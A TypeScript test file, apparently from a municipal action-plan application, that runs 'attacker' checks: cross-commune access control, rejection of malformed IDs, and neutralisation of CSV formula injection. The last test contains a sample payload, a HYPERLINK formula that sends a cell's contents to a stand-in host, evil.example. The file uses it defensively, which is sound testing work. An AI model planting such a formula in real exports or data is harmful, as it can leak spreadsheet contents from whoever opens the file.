import { beforeAll, describe, expect, it } from 'vitest';
import { testContext } from '../support/context.js';
import { DEMO, pointIn } from '../support/geo.js';
import { api, login } from '../support/http.js';

// Attacker's pass over the action plan (GET/POST /api/actions, PUT /api/actions/:id, CSV): other communes' items and
// sessions, formulas in the CSV export.

let officer: string;
let athis: string;
let juvisyAction: number;
let juvisySession: number;

async function count(): Promise<number> {
  const { db } = await testContext();
  return Number((await db.knex('action_items').count({ n: '*' }))[0]!.n);
}

beforeAll(async () => {
  officer = await login('gup@demo.gup');
  athis = await login('mairie.athis@demo.gup');
  const a = await api('/api/actions', { cookie: officer, body: { title: 'Reprise du square (Juvisy, attaque)', commune: '91326', origin: 'committee' } });
  expect(a.status, JSON.stringify(a.body)).toBe(201);
  juvisyAction = a.body.id;
  const [x, y] = await pointIn(DEMO.communeJuvisy);
  const s = await api('/api/diagnostics', { cookie: officer, body: { title: 'Diagnostic de Juvisy (attaque)', commune: '91326', heldOn: '2026-10-01', geometry: { type: 'LineString', coordinates: [[x, y], [x + 0.001, y]] } } });
  expect(s.status, JSON.stringify(s.body)).toBe(201);
  juvisySession = s.body.id;
});

describe('attack: the action plan', () => {
  it('when a commune user adds an item to another commune or links another commune\'s session, then 403 / 422 naming diagnostic and nothing is stored', async () => {
    const before = await count();
    expect((await api('/api/actions', { cookie: athis, body: { title: 'Action pirate', commune: '91326', origin: 'committee' } })).status).toBe(403);
    const linked = await api('/api/actions', { cookie: athis, body: { title: 'Action liée', commune: '91027', origin: 'diagnosis', diagnostic: juvisySession } });
    expect(linked.status).toBe(422);
    expect(linked.body.error.details[0].field).toBe('diagnostic');
    expect(await count()).toBe(before);
  });

  it('when a commune user reads or edits another commune\'s item, then it is not listed and 404, unchanged', async () => {
    const list = await api('/api/actions', { cookie: athis });
    expect(list.body.actions.map((a: { id: number }) => a.id)).not.toContain(juvisyAction);
    expect((await api('/api/actions?commune=91326', { cookie: athis })).body.actions).toEqual([]);
    const edit = await api(`/api/actions/${juvisyAction}`, { method: 'PUT', cookie: athis, body: { status: 'dropped' } });
    expect(edit.status).toBe(404);
    const seen = (await api('/api/actions?commune=91326', { cookie: officer })).body.actions.find((a: { id: number }) => a.id === juvisyAction);
    expect(seen.status).toBe('planned');
  });

  it('when the diagnostic filter or an item id is huge, hexadecimal or an exponent, then 400 naming it', async () => {
    for (const v of ['0x10', '1e3', '99999999999', '-1']) {
      const list = await api(`/api/actions?diagnostic=${v}`, { cookie: officer });
      expect(list.status, v).toBe(400);
      expect(list.body.error.details[0].field, v).toBe('diagnostic');
      expect((await api(`/api/actions/${v}`, { method: 'PUT', cookie: officer, body: { status: 'done' } })).status, v).toBe(400);
    }
  });

  it('when an item\'s title starts a spreadsheet formula, then the CSV export neutralises it', async () => {
    const created = await api('/api/actions', { cookie: athis, body: { title: '=HYPERLINK("http://evil.example/?"&A1;"ok")', commune: '91027', origin: 'committee' } });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const csv = await api('/api/actions?format=csv', { cookie: athis });
    expect(csv.status).toBe(200);
    expect(csv.body as string).toContain('"\'=HYPERLINK(');
    expect(csv.body as string).not.toMatch(/(^|;)"=HYPERLINK/m);
  });
});
